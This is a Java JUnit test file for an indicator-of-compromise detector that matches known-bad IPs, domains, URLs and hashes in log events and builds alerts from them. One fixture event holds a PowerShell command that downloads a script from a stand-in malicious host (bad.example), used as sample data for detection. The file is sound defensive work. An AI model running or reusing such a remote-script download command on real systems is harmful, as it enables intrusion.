package dev.vigil.intel.ioc;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.model.Alert;
import dev.vigil.model.CommonColumn;
import dev.vigil.model.Event;
import dev.vigil.model.EventId;
import dev.vigil.model.SourcePosition;
import dev.vigil.model.TenantId;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@DisplayName("Indicator matching on events: where values come from and what an alert carries")
class IocDetectorTest {
    private static final TenantId TENANT = TenantId.of("acme");
    private static final Instant NOW = Instant.parse("2025-01-01T00:00:00Z");
    private static final long TIME = 1_714_564_800_000_000L; // 2024-05-01T12:00:00Z
    private static final Provenance APT = new Provenance(List.of("partners", "osint"), 80,
            Instant.parse("2024-01-01T00:00:00Z"), Instant.parse("2024-04-01T00:00:00Z"), null,
            Instant.parse("2026-01-01T00:00:00Z"), List.of("c2"), List.of("APT-X"), List.of("Operation Y"),
            List.of("T1071.001"), List.of("indicator--1"));

    private static Event event(String table, Map<String, String> commonColumns, Object... fields) {
        Map<String, Object> native_ = new LinkedHashMap<>();
        for (int i = 0; i < fields.length; i += 2) {
            native_.put((String) fields[i], fields[i + 1]);
        }
        String[] common = new String[CommonColumn.count()];
        common[CommonColumn.HOST.ordinal()] = "ws1";
        commonColumns.forEach((name, value) -> common[CommonColumn.byName(name).ordinal()] = value);
        String raw = table + native_ + commonColumns;
        return new Event(EventId.derive(TENANT, TIME / 1000, raw.getBytes(StandardCharsets.UTF_8), 0), TENANT, table,
                TIME, common, native_, raw, new SourcePosition("test.json", 1, 0));
    }

    private static IocDetector detector(Indicator... indicators) {
        return new IocDetector(IndicatorIndex.of(List.of(indicators), NOW), TENANT);
    }

    @Test
    void a_match_is_an_alert_with_the_indicator_and_its_provenance_as_evidence() {
        IocDetector detector = detector(Indicator.of(IndicatorType.CIDR, "203.0.113.0/24", APT));
        Event event = event("CommonSecurityLog", Map.of("dst_ip", "203.0.113.7"), "DestinationIP", "203.0.113.7",
                "DeviceAction", "allow");

        List<Alert> alerts = detector.detect(List.of(event));

        assertThat(alerts).hasSize(1);
        Alert alert = alerts.get(0);
        assertThat(alert.source()).isEqualTo("ioc");
        assertThat(alert.ruleId()).isEqualTo("ioc:cidr:203.0.113.0/24");
        assertThat(alert.title()).isEqualTo("Known-bad cidr 203.0.113.0/24 (osint, partners)");
        assertThat(alert.level()).isEqualTo("high");
        assertThat(alert.techniques()).containsExactly("T1071.001");
        assertThat(alert.eventIds()).containsExactly(event.id());
        assertThat(alert.id()).isEqualTo(Alert.idFor(TENANT, "ioc:cidr:203.0.113.0/24", List.of(event.id())));
        assertThat(alert.timeMicros()).isEqualTo(TIME);
        assertThat(alert.table()).isEqualTo("CommonSecurityLog");
        assertThat(alert.matchedFields()).containsEntry("dst_ip", "203.0.113.7")
                .containsEntry("indicator", "cidr:203.0.113.0/24").containsEntry("feeds", "osint, partners")
                .containsEntry("confidence", "80").containsEntry("actor", "APT-X")
                .containsEntry("campaign", "Operation Y").containsEntry("tags", "c2")
                .containsEntry("sources", "indicator--1").containsEntry("valid_until", "2026-01-01T00:00:00Z")
                .containsEntry("first_seen", "2024-01-01T00:00:00Z").containsEntry("last_seen", "2024-04-01T00:00:00Z");
        assertThat(alert.entities()).contains(new Alert.Entity("host", "ws1"), new Alert.Entity("dst_ip",
                "203.0.113.7"));
        assertThat(detector.detect(List.of(event)).get(0).id()).as("deterministic").isEqualTo(alert.id());
    }

    @Test
    void every_field_that_carries_the_value_is_named_in_one_alert_per_indicator() {
        IocDetector detector = detector(Indicator.of(IndicatorType.IPV4, "203.0.113.7", Provenance.of("f", 50)),
                Indicator.of(IndicatorType.CIDR, "203.0.113.0/24", Provenance.of("f", 50)));
        Event event = event("ZeekConn", Map.of(), "id.resp_h", "203.0.113.7", "tunnel_parents", "[\"203.0.113.7\"]");

        List<Alert> alerts = detector.detect(List.of(event));

        assertThat(alerts).extracting(Alert::ruleId).containsExactly("ioc:ipv4:203.0.113.7",
                "ioc:cidr:203.0.113.0/24");
        assertThat(alerts.get(0).matchedFields()).containsEntry("id.resp_h", "203.0.113.7")
                .containsEntry("tunnel_parents", "203.0.113.7");
        assertThat(alerts.get(0).entities()).contains(new Alert.Entity("ip", "203.0.113.7"));
    }

    @Test
    void values_are_found_in_native_fields_of_any_name_and_in_text() {
        IocDetector detector = detector(Indicator.of(IndicatorType.DOMAIN, "evil.example", Provenance.of("f", 50)),
                Indicator.of(IndicatorType.URL, "http://bad.example/x.ps1", Provenance.of("f", 50)),
                Indicator.of(IndicatorType.SHA256,
                        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", Provenance.of("f", 50)));
        Event dns = event("DnsEvents", Map.of(), "Name", "cdn.evil.example");
        Event process = event("DeviceProcessEvents", Map.of(), "ProcessCommandLine",
                "powershell -c iwr 'HTTP://bad.example/x.ps1'", "SHA256",
                "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855");
        Event syslog = event("Syslog", Map.of(), "SyslogMessage", "resolved www.evil.example. to 10.0.0.1");
        Event lookAlike = event("DnsEvents", Map.of(), "Name", "notevil.example");

        List<Alert> alerts = detector.detect(List.of(dns, process, syslog, lookAlike));

        assertThat(alerts).extracting(a -> a.table() + " " + a.ruleId()).containsExactly(
                "DnsEvents ioc:domain:evil.example",
                "DeviceProcessEvents ioc:url:http://bad.example/x.ps1",
                "DeviceProcessEvents ioc:sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                "Syslog ioc:domain:evil.example");
        assertThat(alerts.get(1).matchedFields()).containsEntry("ProcessCommandLine", "HTTP://bad.example/x.ps1");
        assertThat(alerts.get(3).matchedFields()).containsEntry("SyslogMessage", "www.evil.example");
    }

    @Test
    void a_url_column_without_a_scheme_is_taken_as_http() {
        IocDetector detector = detector(Indicator.of(IndicatorType.URL, "http://bad.example/x", Provenance.of("f",
                50)));
        Event proxy = event("CommonSecurityLog", Map.of("url", "bad.example/x"), "RequestURL", "bad.example/x");
        assertThat(detector.detect(List.of(proxy))).extracting(Alert::ruleId).containsExactly(
                "ioc:url:http://bad.example/x");
    }

    @Test
    void the_rendered_message_of_windows_events_is_not_searched_again() {
        IocDetector detector = detector(Indicator.of(IndicatorType.IPV4, "203.0.113.7", Provenance.of("f", 50)));
        Event windows = event("SecurityEvent", Map.of(), "IpAddress", "10.0.0.1", "Message",
                "An account failed to log on. Source Network Address: 203.0.113.7");
        Event windowsField = event("SecurityEvent", Map.of(), "IpAddress", "203.0.113.7", "Message",
                "An account failed to log on. Source Network Address: 203.0.113.7");
        Event other = event("Syslog", Map.of(), "Message", "Failed password for root from 203.0.113.7 port 22");
        assertThat(detector.detect(List.of(windows))).isEmpty();
        assertThat(detector.detect(List.of(windowsField, other))).extracting(Alert::table)
                .containsExactly("SecurityEvent", "Syslog");
    }

    @Test
    void an_empty_index_raises_nothing_and_counts_events() {
        IocDetector detector = detector();
        assertThat(detector.detect(List.of(event("Syslog", Map.of("src_ip", "203.0.113.7"))))).isEmpty();
        assertThat(detector.events()).isEqualTo(1);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource({"100, critical", "95, critical", "94, high", "75, high", "74, medium", "45, medium", "44, low",
            "15, low", "14, informational", "0, informational"})
    void the_level_follows_the_confidence(int confidence, String level) {
        assertThat(IocDetector.level(confidence)).isEqualTo(level);
    }

    @Test
    void titles_name_at_most_three_feeds() {
        Indicator indicator = Indicator.of(IndicatorType.DOMAIN, "evil.example", new Provenance(
                List.of("a", "b", "c", "d", "e"), 50, null, null, null, null, List.of(), List.of(), List.of(),
                List.of(), List.of()));
        assertThat(IocDetector.title(indicator)).isEqualTo("Known-bad domain evil.example (a, b, c +2)");
    }
}
